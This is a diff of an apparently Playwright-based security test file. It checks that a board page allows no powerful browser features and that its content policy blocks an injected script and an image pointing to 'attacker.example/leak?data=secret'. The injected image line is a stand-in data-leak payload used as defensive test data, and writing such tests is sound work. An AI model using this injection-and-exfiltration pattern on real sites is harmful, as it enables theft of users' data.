@@ -42,39 +42,47 @@ test('the YouTube facade turns into the youtube-nocookie player, which keeps its
 	expect(deniedInPlayer).toEqual([]);
 });
 
-test('a page may use no powerful feature, nor grant one to a frame', async ({ page }) => {
-	await page.goto('/starfall/global/boards/12');
-	const allowed = await page.evaluate((player) => {
-		const policy = (document as unknown as { featurePolicy: FeaturePolicy }).featurePolicy;
-		return ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'hid', 'display-capture'].filter(
-			(feature) => policy.allowsFeature(feature) || policy.allowsFeature(feature, player),
-		);
-	}, PLAYER);
-	expect(allowed).toEqual([]);
-});
-
-test('the page policy stops a script and an outside image slipped into a page, and the tests notice', async ({ page, policyViolations }) => {
+// One board page for the two tests that look at it: the check that only reads comes first, as a step of its own.
+test('a page may use no powerful feature, nor grant one to a frame; its policy stops a script and an outside image slipped in, and the tests notice', async ({
+	page,
+	policyViolations,
+}) => {
 	const outside: string[] = [];
 	await page.route('https://attacker.example/**', (route) => {
 		outside.push(route.request().url());
 		return route.abort();
 	});
 	await page.goto('/starfall/global/boards/12');
-	const ran = await page.evaluate(() => {
-		const script = document.createElement('script');
-		script.textContent = 'document.documentElement.dataset.injected = "ran"';
-		document.body.appendChild(script);
-		const image = document.createElement('img');
-		image.src = 'https://attacker.example/leak?data=secret';
-		document.body.appendChild(image);
-		return document.documentElement.dataset['injected'] === 'ran';
+	await test.step('a page may use no powerful feature, nor grant one to a frame', async () => {
+		const allowed = await page.evaluate((player) => {
+			const policy = (document as unknown as { featurePolicy: FeaturePolicy }).featurePolicy;
+			return ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'hid', 'display-capture'].filter(
+				(feature) => policy.allowsFeature(feature) || policy.allowsFeature(feature, player),
+			);
+		}, PLAYER);
+		expect(allowed, 'powerful features the page allows').toEqual([]);
 	});
-	expect(ran).toBe(false);
-	await expect
-		.poll(() => policyViolations.filter((violation) => violation.startsWith('event: ')).map((violation) => violation.split(' ')[1]))
-		.toEqual(expect.arrayContaining(['script-src-elem', 'img-src']));
-	await expect.poll(() => policyViolations.filter((violation) => violation.startsWith('console: ')).length).toBeGreaterThanOrEqual(2);
-	expect(outside).toEqual([]);
-	// These violations were this test's point; the fixture checks that nothing else was refused.
-	policyViolations.length = 0;
+	await test.step('the page policy stops a script and an outside image slipped into a page, and the tests notice', async () => {
+		const ran = await page.evaluate(() => {
+			const script = document.createElement('script');
+			script.textContent = 'document.documentElement.dataset.injected = "ran"';
+			document.body.appendChild(script);
+			const image = document.createElement('img');
+			image.src = 'https://attacker.example/leak?data=secret';
+			document.body.appendChild(image);
+			return document.documentElement.dataset['injected'] === 'ran';
+		});
+		expect(ran, 'the slipped-in script ran').toBe(false);
+		await expect
+			.poll(() => policyViolations.filter((violation) => violation.startsWith('event: ')).map((violation) => violation.split(' ')[1]), {
+				message: 'the violations the page reported',
+			})
+			.toEqual(expect.arrayContaining(['script-src-elem', 'img-src']));
+		await expect
+			.poll(() => policyViolations.filter((violation) => violation.startsWith('console: ')).length, { message: "the browser's console errors" })
+			.toBeGreaterThanOrEqual(2);
+		expect(outside, 'requests to the outside host').toEqual([]);
+		// These violations were this test's point; the fixture checks that nothing else was refused.
+		policyViolations.length = 0;
+	});
 });
